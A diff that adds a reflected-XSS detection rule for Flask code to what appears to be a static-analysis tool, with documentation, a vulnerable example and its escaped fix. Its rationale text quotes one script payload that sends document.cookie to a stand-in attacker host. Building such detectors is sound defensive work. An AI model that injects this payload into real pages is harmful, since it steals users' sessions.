@@ -1,0 +1,118 @@
+import type { Node } from 'web-tree-sitter';
+import type { RuleContext } from '../../engine/context';
+import type { Taint } from '../../engine/taint';
+import {
+  contentTypeInHeaders,
+  contentTypeValue,
+  escapeEdits,
+  escaper,
+  isHtmlView,
+  isMarkupCall,
+  isNonHtmlValue,
+  preciseTaint,
+  responseContentType,
+  responseKind,
+  unwrap,
+} from '../support/xss';
+import type { PreciseTaintOptions } from '../support/xss';
+import { defineRule } from '../rule';
+
+/** Request data itself, and text derived from it; not values other functions computed from it. */
+const REFLECTED: PreciseTaintOptions = { sink: 'html', followCalls: false };
+
+export default defineRule({
+  meta: {
+    id: 'FS301',
+    name: 'reflected-xss',
+    title: 'Request data returned as HTML without escaping',
+    severity: 'error',
+    confidence: 'high',
+    cwe: ['CWE-79'],
+    owasp: ['A03:2021'],
+    fix: { title: 'Escape the request data with markupsafe.escape()', safety: 'unsafe' },
+    docs: {
+      summary:
+        'Finds request data (query string, form, JSON fields, headers, cookies, URL parameters) sent back in an HTML response without escaping: a string returned from a view or error handler (`return f"<h1>{name}</h1>"`, `return "Hello " + name`, `return name`, `return body, 200`), and the body of `make_response(...)`, `flask.Response(...)`/`app.response_class(...)` anywhere. Values passed through `escape`/`markupsafe.escape`/`html.escape`/`bleach.clean` or converted with `int()`, bodies from `jsonify`, `json.dumps` or `render_template`, dictionaries (Flask serializes them as JSON), and responses declared with a non-HTML content type (`mimetype="application/json"`, `text/plain`, also when set afterwards on the response object) are not reported. Flask-RESTful/RESTX resources, whose return values are serialized to JSON, are left out, and so are values other functions compute from request data (a row looked up by a request id, a fetched page): only the data itself and text derived from it (formatting, string methods, containers, helpers in the file that return their input) count.',
+      why: 'Flask sends a returned string as `text/html`. A value such as `<script>fetch("//evil.example/?c="+document.cookie)</script>` placed in a link to the page runs in the browser of whoever follows the link, with their session: the attacker reads their data, acts as them, or rewrites the page. Jinja templates escape values automatically; strings assembled in Python do not.',
+      example:
+        '@app.route("/hello")\ndef hello():\n    name = request.args.get("name", "")\n    return f"<h1>Hello {name}</h1>"',
+      fix: 'from markupsafe import escape\n\n@app.route("/hello")\ndef hello():\n    name = request.args.get("name", "")\n    return f"<h1>Hello {escape(name)}</h1>"\n    # better: return render_template("hello.html", name=name)',
+    },
+    references: [
+      'https://owasp.org/www-community/attacks/xss/',
+      'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html',
+      'https://flask.palletsprojects.com/en/stable/quickstart/#html-escaping',
+      'https://cwe.mitre.org/data/definitions/79.html',
+    ],
+  },
+  check(ctx: RuleContext) {
+    const reported = new Set<number>();
+    const report = (body: Node, at: Node, taint: Taint, where: string) => {
+      if (reported.has(at.id)) return;
+      reported.add(at.id);
+      ctx.report(
+        at,
+        `Request data (${taint.label}) is ${where} without escaping: a crafted link can run script in the victim's browser. Escape it with markupsafe.escape(), or render a template.`,
+        { taint, fix: fix(ctx, body) },
+      );
+    };
+
+    for (const fn of ctx.file.functions) {
+      if (!isHtmlView(ctx, fn)) continue;
+      for (const returned of fn.returns) {
+        for (const body of returnedBodies(ctx, returned)) {
+          // `return Markup(f"...{x}...")` is FS302's.
+          if (isNonHtmlValue(ctx, body) || isMarkupCall(ctx, body)) continue;
+          const taint = preciseTaint(ctx, body, REFLECTED);
+          if (taint) report(body, body, taint, `returned as HTML by ${fn.name}()`);
+        }
+      }
+    }
+
+    for (const site of ctx.file.calls) {
+      const kind = responseKind(ctx, site);
+      if (!kind) continue;
+      let body =
+        kind === 'Response'
+          ? (site.args.positional[0] ?? site.args.keywords.get('response'))
+          : site.args.positional[0];
+      if (!body) continue;
+      // make_response((body, 200, headers))
+      const inner = unwrap(body);
+      if (kind === 'make_response' && inner.type === 'tuple') body = inner.namedChildren[0] ?? body;
+      if (isNonHtmlValue(ctx, body) || isMarkupCall(ctx, body)) continue;
+      if (responseContentType(ctx, site, kind) !== 'html') continue;
+      const taint = preciseTaint(ctx, body, REFLECTED);
+      if (taint) report(body, site.node, taint, `used as the HTML body of ${site.calleeText ?? site.name}()`);
+    }
+  },
+});
+
+/**
+ * The bodies a `return` statement can send: the first item of `(body, status[, headers])` unless the headers
+ * declare a non-HTML content type, both branches of a conditional expression.
+ */
+function returnedBodies(ctx: RuleContext, returned: Node): Node[] {
+  let value = unwrap(returned);
+  if (value.type === 'expression_list' || value.type === 'tuple') {
+    const items = value.namedChildren.filter((c): c is Node => !!c && c.type !== 'comment');
+    const headers = items.length >= 3 ? items[2] : items[1];
+    const declared = contentTypeInHeaders(ctx, headers);
+    if (declared && contentTypeValue(ctx, declared) !== 'html') return [];
+    if (!items[0]) return [];
+    value = unwrap(items[0]);
+  }
+  if (value.type === 'conditional_expression') {
+    const [whenTrue, , whenFalse] = value.namedChildren;
+    return [whenTrue, whenFalse].filter((c): c is Node => !!c).flatMap((c) => returnedBodies(ctx, c));
+  }
+  return [value];
+}
+
+function fix(ctx: RuleContext, body: Node) {
+  const escape = escaper(ctx);
+  if (!escape) return [];
+  const edits = escapeEdits(ctx, body, (n) => !!preciseTaint(ctx, n, REFLECTED), escape.name);
+  if (!edits || edits.length === 0) return [];
+  return [...escape.edits, ...edits];
+}
